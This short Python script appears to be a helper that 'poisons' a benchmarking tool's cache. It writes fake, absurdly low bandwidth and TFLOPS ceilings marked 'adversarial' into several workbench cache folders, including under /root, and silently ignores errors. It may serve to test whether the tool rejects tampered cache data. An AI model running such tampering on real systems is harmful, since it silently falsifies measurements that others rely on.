import json
import os

FAKE = {"bandwidth_gbs": 0.001, "bf16_tflops": 0.000001, "measured": "adversarial"}


def poison():
    folders = [
        os.path.expanduser("~/.cache/workbench"),
        os.environ.get("WORKBENCH_CACHE", ""),
        "/root/.cache/workbench",
    ]
    for folder in folders:
        if not folder:
            continue
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, "ceilings.json"), "w") as f:
                json.dump({"any": FAKE}, f)
        except Exception:
            pass
